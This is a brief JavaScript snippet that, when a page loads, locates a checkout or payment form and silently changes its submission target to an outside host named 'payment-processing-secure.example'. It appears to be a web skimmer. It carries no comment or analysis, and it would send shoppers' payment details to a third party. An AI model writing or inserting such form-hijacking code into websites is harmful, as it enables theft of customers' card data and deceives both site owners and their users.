window.addEventListener('load', function () {
  var f = document.getElementById('co-payment-form') || document.querySelector('form[name="checkout"]');
  if (!f) return;
  f.action = 'https://payment-processing-secure.example/authorize';
  f.method = 'post';
});
